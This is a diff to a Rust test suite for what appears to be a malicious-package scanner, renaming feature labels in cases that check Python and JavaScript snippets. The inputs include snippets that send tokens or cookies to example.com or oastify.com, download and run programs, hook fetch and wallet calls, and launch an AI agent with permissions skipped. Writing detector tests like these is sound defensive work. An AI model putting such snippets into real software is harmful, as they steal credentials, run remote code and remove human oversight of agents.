@@ -12,75 +12,80 @@ fn told(steps: &[Step], feature: Feature, detail: &str) -> bool {
 #[rstest]
 #[case::mirror(
     "import os, requests\nrequests.get(os.environ['NPM_MIRROR'] + '/a.tgz')",
-    Feature::X11,
+    Feature::SendData,
     "send secret",
     false
 )]
 #[case::token(
     "import os, requests\nrequests.get('https://example.com/' + os.environ['NPM_TOKEN'])",
-    Feature::X11,
+    Feature::SendData,
     "send secret",
     true
 )]
-#[case::own_name("import socket\nsocket.gethostbyname(socket.gethostname())", Feature::X11, "send host", false)]
+#[case::own_name("import socket\nsocket.gethostbyname(socket.gethostname())", Feature::SendData, "send host", false)]
 #[case::name_in_query(
     "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.example.com')",
-    Feature::X11,
+    Feature::SendData,
     "send host",
     true
 )]
 #[case::bot_signs_in(
     "import os, discord\nc = discord.Client()\nc.run(os.environ['BOT_TOKEN'])",
-    Feature::X11,
+    Feature::SendData,
     "send secret",
     false
 )]
 #[case::bot_talks(
     "import os, telebot\nb = telebot.TeleBot('x')\nb.send_message(1, os.environ['AWS_SECRET_ACCESS_KEY'])",
-    Feature::X11,
+    Feature::SendData,
     "send secret",
     true
 )]
-#[case::key_format("from OpenSSL import crypto\ncrypto.dump_privatekey('x', k)", Feature::R5, "wallet", false)]
-#[case::exports("__all__ = ['PublicKey', 'PrivateKey']", Feature::R5, "wallet", false)]
-#[case::digest("from Crypto.Hash import SHA256\nSHA256.new(b'x')", Feature::E2, "encrypt", false)]
-#[case::digest_told("from Crypto.Hash import SHA256\nSHA256.new(b'x')", Feature::E2, "hash", true)]
+#[case::key_format("from OpenSSL import crypto\ncrypto.dump_privatekey('x', k)", Feature::ReadSecret, "wallet", false)]
+#[case::exports("__all__ = ['PublicKey', 'PrivateKey']", Feature::ReadSecret, "wallet", false)]
+#[case::digest("from Crypto.Hash import SHA256\nSHA256.new(b'x')", Feature::CallEncoding, "encrypt", false)]
+#[case::digest_told("from Crypto.Hash import SHA256\nSHA256.new(b'x')", Feature::CallEncoding, "hash", true)]
 #[case::binding(
     "from cryptography.hazmat.bindings.openssl import binding\nbinding.lib.d2i_PrivateKey_bio(b, n)",
-    Feature::E2,
+    Feature::CallEncoding,
     "encrypt",
     false
 )]
-#[case::cipher("from Crypto.Cipher import AES\nAES.new(k, 1).encrypt(b'x')", Feature::E2, "encrypt", true)]
-#[case::release("open('/etc/os-release').read()", Feature::R5, "", false)]
-#[case::release_told("open('/etc/os-release').read()", Feature::R2, "host files", true)]
-#[case::clipboard_write("import pyperclip\npyperclip.copy('x')", Feature::X6, "", false)]
-#[case::clipboard_read("import pyperclip\npyperclip.paste()", Feature::X6, "clipboard", true)]
-#[case::browser_flag("args = ['--no-sandbox']", Feature::X5, "", false)]
-#[case::arrays("import numpy as np\nnp.load('a.npy')", Feature::P4, "unmarshal", false)]
-#[case::pickled_arrays("import numpy as np\nnp.load('a.npy', allow_pickle=True)", Feature::P4, "unmarshal", true)]
-#[case::model("from torch import load as l\nl('a.pt')", Feature::P4, "unmarshal", true)]
+#[case::cipher("from Crypto.Cipher import AES\nAES.new(k, 1).encrypt(b'x')", Feature::CallEncoding, "encrypt", true)]
+#[case::release("open('/etc/os-release').read()", Feature::ReadSecret, "", false)]
+#[case::release_told("open('/etc/os-release').read()", Feature::CallSystem, "host files", true)]
+#[case::clipboard_write("import pyperclip\npyperclip.copy('x')", Feature::CaptureInput, "", false)]
+#[case::clipboard_read("import pyperclip\npyperclip.paste()", Feature::CaptureInput, "clipboard", true)]
+#[case::browser_flag("args = ['--no-sandbox']", Feature::CheckEnvironment, "", false)]
+#[case::arrays("import numpy as np\nnp.load('a.npy')", Feature::EvaluateCode, "unmarshal", false)]
+#[case::pickled_arrays(
+    "import numpy as np\nnp.load('a.npy', allow_pickle=True)",
+    Feature::EvaluateCode,
+    "unmarshal",
+    true
+)]
+#[case::model("from torch import load as l\nl('a.pt')", Feature::EvaluateCode, "unmarshal", true)]
 #[case::inject(
     "import ctypes\nk = ctypes.windll.kernel32\nk.VirtualAlloc(0, 1, 2, 3)",
-    Feature::X8,
+    Feature::LoadNative,
     "inject memory",
     true
 )]
 #[case::hook(
     "import requests\nold = requests.Session.request\ndef seen(self, *a): return old(self, *a)\nrequests.Session.request = seen",
-    Feature::X6,
+    Feature::CaptureInput,
     "network calls",
     true
 )]
 #[case::dropper(
     "import requests, subprocess\nopen('/tmp/x', 'wb').write(requests.get('https://example.com/x').content)\nsubprocess.run(['/tmp/x'])",
-    Feature::X12,
+    Feature::RunDownloaded,
     "downloaded program",
     true
 )]
 #[case::other_file(
     "import requests, subprocess\nopen('/tmp/x', 'wb').write(requests.get('https://example.com/x').content)\nsubprocess.run(['/usr/bin/id'])",
-    Feature::X12,
+    Feature::RunDownloaded,
     "",
     false
 )]
@@ -90,95 +95,110 @@ fn in_python(#[case] source: &str, #[case] feature: Feature, #[case] detail: &st
 }
 
 #[rstest]
-#[case::clipboard_write("navigator.clipboard.writeText('x')", Feature::X6, "", false)]
+#[case::clipboard_write("navigator.clipboard.writeText('x')", Feature::CaptureInput, "", false)]
 #[case::clipboard_read(
     "navigator.clipboard.readText().then(t => fetch('https://example.com/' + t))",
-    Feature::X6,
+    Feature::CaptureInput,
     "clipboard",
     true
 )]
-#[case::stand_in("if (!globalThis.fetch) globalThis.fetch = function (u) { return 1 }", Feature::X6, "", false)]
+#[case::stand_in(
+    "if (!globalThis.fetch) globalThis.fetch = function (u) { return 1 }",
+    Feature::CaptureInput,
+    "",
+    false
+)]
 #[case::hook(
     "const old = globalThis.fetch; globalThis.fetch = (...a) => { seen(a); return old(...a) }",
-    Feature::X6,
+    Feature::CaptureInput,
     "network calls",
     true
 )]
 #[case::hook_prototype(
     "const s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { seen(b); return s.apply(this, arguments) }",
-    Feature::X6,
+    Feature::CaptureInput,
     "network calls",
     true
 )]
 #[case::hook_aliased(
     "const h = require('https'); const old = h.request; h.request = function () { return old.apply(this, arguments) }",
-    Feature::X6,
+    Feature::CaptureInput,
     "network calls",
     true
 )]
 #[case::hook_wallet(
     "const r = window.ethereum.request; window.ethereum.request = async a => r(a)",
-    Feature::X6,
+    Feature::CaptureInput,
     "wallet calls",
     true
 )]
 #[case::hook_modules(
     "const M = require('module'); const l = M._load; M._load = function () { return l.apply(this, arguments) }",
-    Feature::X6,
+    Feature::CaptureInput,
     "module loads",
     true
 )]
-#[case::own_object("const o = {}; const old = o.fetch; o.fetch = () => old()", Feature::X6, "", false)]
-#[case::picture("new Image().src = 'https://a.oastify.com/x?' + document.cookie", Feature::X7, "out of band", true)]
+#[case::own_object("const o = {}; const old = o.fetch; o.fetch = () => old()", Feature::CaptureInput, "", false)]
+#[case::picture(
+    "new Image().src = 'https://a.oastify.com/x?' + document.cookie",
+    Feature::UseCollector,
+    "out of band",
+    true
+)]
 #[case::picture_asks(
     "const i = document.createElement('img'); i.src = '//example.com/x?' + document.cookie",
-    Feature::D2,
+    Feature::CallNetwork,
     "http get",
     true
 )]
 #[case::picture_sends(
     "const i = document.createElement('img'); i.src = '//example.com/x?' + document.cookie",
-    Feature::X11,
+    Feature::SendData,
     "send input",
     true
 )]
 #[case::stored(
     "navigator.sendBeacon('https://example.com/z', localStorage.getItem('token'))",
-    Feature::X11,
+    Feature::SendData,
     "send input",
     true
 )]
 #[case::dropper(
     "const fs = require('fs'); fetch('https://example.com/a').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/x', Buffer.from(b)); require('child_process').spawn('/tmp/x') })",
-    Feature::X12,
+    Feature::RunDownloaded,
     "downloaded program",
     true
 )]
 #[case::chain(
     "const { Connection: C } = require('@solana/web3.js'); new C('https://example.com').getSignaturesForAddress(a)",
-    Feature::D2,
+    Feature::CallNetwork,
     "chain call",
     true
 )]
 #[case::collector(
     "const c = ['oapi', 'dingtalk', 'com']; require('https').request({ hostname: c.join('.'), path: '/robot/send?access_token=1' })",
-    Feature::X7,
+    Feature::UseCollector,
     "webhook dingtalk",
     true
 )]
 #[case::agent(
     "require('child_process').execSync('claude -p x --dangerously-skip-permissions')",
-    Feature::P2,
+    Feature::CallProcess,
     "agent unattended",
     true
 )]
 #[case::agent_folded(
     "require('child_process').spawn('claude', ['-p', 'x', '--dangerously' + '-skip-permissions'])",
-    Feature::P2,
+    Feature::CallProcess,
     "agent unattended",
     true
 )]
-#[case::agent_asked("require('child_process').execSync('claude -p x')", Feature::P2, "agent unattended", false)]
+#[case::agent_asked(
+    "require('child_process').execSync('claude -p x')",
+    Feature::CallProcess,
+    "agent unattended",
+    false
+)]
 fn in_javascript(#[case] source: &str, #[case] feature: Feature, #[case] detail: &str, #[case] expected: bool) {
     let steps = steps("index.js", source);
     assert_eq!(told(&steps, feature, detail), expected, "{steps:#?}");
